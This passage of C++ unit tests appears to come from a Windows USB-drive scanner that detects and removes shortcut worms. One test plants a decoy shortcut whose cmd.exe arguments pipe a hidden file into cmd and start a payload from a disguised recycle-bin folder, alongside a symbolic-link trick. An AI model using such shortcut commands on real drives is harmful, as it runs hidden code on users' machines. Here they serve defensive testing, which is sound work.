    for (const char* folder : {"$RECYCLE.BIN", "System Volume Information"}) {
        MakeFolder(drive / folder, kHiddenSystem);
        MakeFile(drive / folder + "\\desktop.ini", kRecycleBinIni, kHiddenSystem);
    }
    ASSERT_TRUE(SaveShellShortcut(L"E:\\Firefox.lnk", L"E:\\PortableApps\\Firefox\\firefox.exe", L"-profile Data"));
    ShortcutSpec notes;
    notes.idListTarget = L"E:\\Docs\\notes.txt";
    WriteShortcut(L"E:\\notes.lnk", notes);
    ShortcutSpec editor;
    editor.idListTarget = L"C:\\windows\\notepad.exe";
    editor.arguments = L"E:\\Docs\\notes.txt";
    WriteShortcut(L"E:\\Editor.lnk", editor);

    Scan();
    EXPECT_EQ(Paths(), std::vector<std::wstring>{});
    EXPECT_EQ(Counter(), L"Угроз не обнаружено");
    EXPECT_EQ(page.WormNotice(), L"");
    MessageRecorder messages(IDOK);
    RunWorker(IDC_SECOND_BUTTON);
    EXPECT_EQ(messages.Texts().back(), L"На USB дисках нечего восстанавливать: скрытых папок и файлов и ярлыков "
                                       L"вируса не найдено");
    for (const char* name : {"Firefox.lnk", "notes.lnk", "Editor.lnk"})
        EXPECT_TRUE(PathExists(drive / name)) << name;
}

// A worm on an NTFS stick can link a recycle bin's name or a named folder to
// the user's own folders elsewhere: nothing behind a link is listed.
TEST_F(UsbProtection, NothingBehindALinkOnTheDriveIsListed)
{
    ScratchDir elsewhere;
    MakeFile(elsewhere / "precious.dat", "the user's");
    if (!MakeUnixLink(UnixPathOf(elsewhere.Path()), drive.Folder(), "RECYCLER.BIN") ||
        !MakeUnixLink(UnixPathOf(elsewhere.Path()), drive.Folder(), "lnk"))
        GTEST_SKIP() << "cannot make a Unix symbolic link here";
    ASSERT_TRUE(PathExists(drive / "lnk\\precious.dat"));
    ShortcutSpec decoy;
    decoy.idListTarget = kCmd;
    decoy.arguments = L"/c type lnk\\precious.dat | cmd & start RECYCLER.BIN\\precious.dat";
    WriteShortcut(L"E:\\USB.lnk", decoy);
    Scan();
    EXPECT_EQ(Paths(), std::vector<std::wstring>{L"E:\\USB.lnk"});
    MessageRecorder messages(IDOK);
    RunWorker(IDC_USB_DELETE_ALL);
    EXPECT_EQ(ReadWholeFile(elsewhere / "precious.dat"), "the user's");
    RemoveUnixLink(drive.Folder(), "RECYCLER.BIN");
    RemoveUnixLink(drive.Folder(), "lnk");
}
